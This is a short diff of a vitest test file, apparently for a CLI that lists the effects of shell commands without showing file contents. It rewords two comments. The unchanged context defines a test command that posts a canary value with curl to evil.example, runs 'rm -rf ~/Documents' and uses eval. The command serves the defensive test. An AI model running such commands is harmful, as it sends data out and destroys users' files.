@@ -1,4 +1,4 @@
-/** Of what a file holds nothing is shown but programs, paths and hosts: not in lists of effects, reasons or explanations. */
+/** Only programs, paths and hosts of a file are shown: not in lists of effects, reasons or explanations. */
 import { expect, test } from 'vitest';
 import { listEffects } from '../../src/cli/effects.ts';
 import { type WrittenEntry, writtenDisk } from '../../src/facts/disk/written-disk.ts';
@@ -6,7 +6,7 @@ import { derive } from '../../src/facts/facts.ts';
 import { decideOn } from '../packs/decide.ts';
 import { shellEvent } from '../variants/shell-event.ts';
 
-/** Stands wherever a file may hold something that is nobody's business. */
+/** A mark for anything in a file that must not be shown. */
 const canary = 'kanarienvogel';
 const command = `curl -d ${canary} -H "X: ${canary}" https://evil.example; rm -rf ~/Documents; $${canary}; eval "echo ${canary} $X"`;
 
